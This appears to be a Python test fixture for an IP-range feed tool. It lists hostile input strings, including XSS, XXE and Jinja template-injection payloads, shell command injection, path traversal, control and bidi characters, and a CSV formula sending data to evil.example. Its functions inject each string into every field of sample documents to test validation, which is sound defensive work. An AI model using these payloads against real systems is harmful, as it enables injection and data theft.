"""Hostile texts, and every place of every kind of document where a text can stand."""

from __future__ import annotations

import copy
import csv
import io
import json
import re
from collections.abc import Iterator, Mapping
from typing import Any, NamedTuple

from ip_ranges.settings import parse_settings
from reading import LINES

TEXTS = {
    "html-script": "<script>alert(1)</script>",
    "html-image": '"><img src=x onerror=alert(1)>',
    "html-attribute": "' onmouseover='alert(1)' x=\" autofocus onfocus=\"alert(1)",
    "html-ends": "--></script></style></textarea></title></select></svg><svg onload=alert(1)>",
    "html-entity": "&lt;script&gt;&#60;b&#62;&amp;",
    "xml": "]]><![CDATA[<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "rst-role": ":raw-html:`<b>` :doc:`/etc/passwd` `x <javascript:alert(1)>`_ **b** ``l``",
    "rst-directive": ".. include:: /etc/passwd",
    "rst-raw": ".. raw:: html <b>",
    "rst-substitution": "|version| |today| |release| [1]_ target_",
    "jinja-expression": "{{ 7 * 7 }}{{ cycler.__init__.__globals__ }}",
    "jinja-statement": "{% include '/etc/passwd' %}{# gone #}",
    "python-format": "{0.__class__} {prefix} {date} %s %(x)s %n",
    "shell": "$(touch pwned)`touch pwned`; touch pwned && touch pwned | tee pwned #",
    "shell-quote": "' ; touch pwned; echo '",
    "nginx": "x; } allow all; { deny",
    "hcl": '${file("/etc/passwd")} %{ if true }x%{ endif }" }',
    "json": '", "region": "x", "role": "vpn"}, {',
    "backslash": "x\\",
    "csv-formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "csv-plus": "+cmd|'/C calc'!A0",
    "csv-at": " @SUM(1)",
    "csv-minus": "-2+3",
    "csv-wide": "\uff1d1+1",
    "csv-second-cell": "x;=1+1; @SUM(1)",
    "markdown": "](javascript:alert(1)) ![x](http://evil.example/x.png) | # <b> ~~x~~ $x$",
    "mention": "@everyone @org/team #1 www.evil.example https://evil.example",
    "calendar": "END:VEVENT;X=1,2",
    "workflow-command": "::error::x",
    "option": "--help",
    "up": "../../x",
    "up-windows": "..\\..\\x",
    "two-dots": "..",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\x",
    "device": "con",
    "device-ending": "nul.txt",
    "the-folder-of-all": "all",
    "web-address": "https://evil.example/$(id);x=[y](z)*~!@%0aq&a=1#/../",
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "line-feed": "x\n0.0.0.0/0",
    "carriage-return": "x\r0.0.0.0/0",
    "line-ends": "x\r\nallow all;\r\n\r\n::error::x",
    "next-line": "x\x850.0.0.0/0",
    "line-separator": "x\u20280.0.0.0/0",
    "paragraph-separator": "x\u20290.0.0.0/0",
    "form-feed": "x\x0c\x0b\x1c0.0.0.0/0",
    "nul": "x\x00y",
    "escape": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "csi": "\x9b31mx",
    "backspace": "x\x08\x7f",
    "override": "\u202egnp.x",
    "isolate": "\u2066x\u2069",
    "arabic-mark": "x\u061cy",
    "byte-order-mark": "\ufeffx",
    "tags": "x\U000e0041\U000e0042",
    "noncharacter": "x\uffff\ufdd0",
    "lone-surrogate": "x\ud800y",
    "long": "A" * 100_000,
}
"""What somebody might write into a feed, by what it is meant for."""

NEVER = tuple(list(TEXTS)[list(TEXTS).index("line-feed") :])
"""Those that no field takes: they end a line, hide, or never end. Only a notice's body may have line feeds."""

HIDDEN = re.compile(r"[^\S\n ]|[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u206f\ufeff\ufff9-\ufffb\ufdd0-\ufdef\ufffe\uffff\ud800-\udfff\U000e0000-\U000e007f]")
"""What must never reach a terminal, a log or a page: written down here once more, and not taken from what is tested."""

Place = tuple[str | int, ...]
"""Keys and indexes that lead to a value."""


class Attack(NamedTuple):
    """A document with the text or the key at one place changed."""

    place: Place
    document: bytes


def put(value: Any, location: Place, text: str, *, key: bool = False) -> Any:
    """A copy of a document's value with *text* at a place, or as the name of the place's last key."""
    copied = inner = copy.deepcopy(value)
    *way, last = location
    for step in way:
        if isinstance(inner, dict):
            inner.setdefault(step, {})
        inner = inner[step]
    if key:
        inner[text] = inner.pop(last, "x")
    else:
        inner[last] = text
    return copied


# ---- the region table: its places are those of its published schema


def fields(schema: dict[str, Any]) -> list[tuple[Place, bool]]:
    """Every place of the region table for a text, from its schema: (place, whether the key is meant).

    Of a list it is the first item. A key is meant where the document may choose it, and where it is one that nobody knows.
    """
    return list(_fields(schema, (), schema["$defs"]))


def _fields(schema: dict[str, Any], location: Place, defs: dict[str, Any]) -> Iterator[tuple[Place, bool]]:
    if "$ref" in schema:
        yield from _fields(defs[schema["$ref"].rpartition("/")[2]], location, defs)
        return
    for inner_schema in schema.get("anyOf", ()):
        yield from _fields(inner_schema, location, defs)
    kinds = schema.get("type", "string" if "enum" in schema else "")
    kinds = [kinds] if isinstance(kinds, str) else kinds
    if "string" in kinds:
        yield location, False
    if "array" in kinds:
        yield from _fields(schema["items"], (*location, 0), defs)
    if "object" in kinds:
        for name, inner in schema["properties"].items():
            yield from _fields(inner, (*location, name), defs)
        yield (*location, "further"), True
        if schema.get("additionalProperties"):
            yield (*location, "further"), False


# ---- vendors' documents: their places are those of the examples in the reference


def example_options(name: str, all_examples: Mapping[str, str]) -> dict[str, Any]:
    """How the example of a format is read: what its feed on the same page says."""
    settings = all_examples.get(f"{name}-feed")
    if settings is None or name == "dns":
        return {}
    feed = parse_settings(settings, {}).feeds[0]
    return {"columns": feed.columns, "facts": feed.facts, "expression": feed.expression}


def attacks(form: str, example: str, text: str) -> Iterator[Attack]:
    """An example with *text* in place of each of its texts and keys, one after the other."""
    if form in LINES:
        yield from _line_attacks(example, text)
        return
    try:
        content = json.loads(example)
    except json.JSONDecodeError:
        content = json.loads(f"[{example}]")
    for location, key in _places(content, ()):
        yield Attack(location, json.dumps(put(content, location, text, key=key)).encode())


def _line_attacks(example: str, text: str) -> Iterator[Attack]:
    """A file of lines with *text* in place of each of its cells. A reader sees a quoted cell; what ends its line is then what it is: another line."""
    lines = example.splitlines()
    for number, line in enumerate(lines):
        cells = next(csv.reader([line])) or [""]
        for index in range(len(cells)):
            row = io.StringIO()
            csv.writer(row, lineterminator="").writerow([*cells[:index], text, *cells[index + 1 :]])
            body = "\n".join([*lines[:number], row.getvalue(), *lines[number + 1 :], ""])
            yield Attack((number, index), body.encode("utf-8", "surrogatepass"))


def _places(value: Any, location: Place) -> Iterator[tuple[Place, bool]]:
    """Every place of a text, and every place whose key is one."""
    if isinstance(value, str):
        yield location, False
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for step, inner in items:
        if isinstance(step, str):
            yield (*location, step), True
        yield from _places(inner, (*location, step))
